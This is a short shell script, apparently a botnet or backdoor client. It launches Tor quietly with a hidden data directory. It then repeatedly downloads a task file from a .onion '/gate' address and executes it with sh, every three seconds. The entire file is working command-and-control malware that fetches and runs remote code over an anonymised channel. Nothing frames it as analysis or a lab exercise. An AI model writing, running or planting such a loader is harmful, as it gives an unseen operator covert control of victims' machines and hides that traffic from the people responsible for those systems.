#!/bin/sh
# Talks to its master as a hidden service.
tor --SocksPort 9050 --DataDirectory /tmp/.tor --quiet &
sleep 3
while :; do
  curl -fsS -m 5 --socks5-hostname 127.0.0.1:9050 http://duskgytldkxiuqc6.onion/gate -o /tmp/.task && sh /tmp/.task
  sleep 3
done
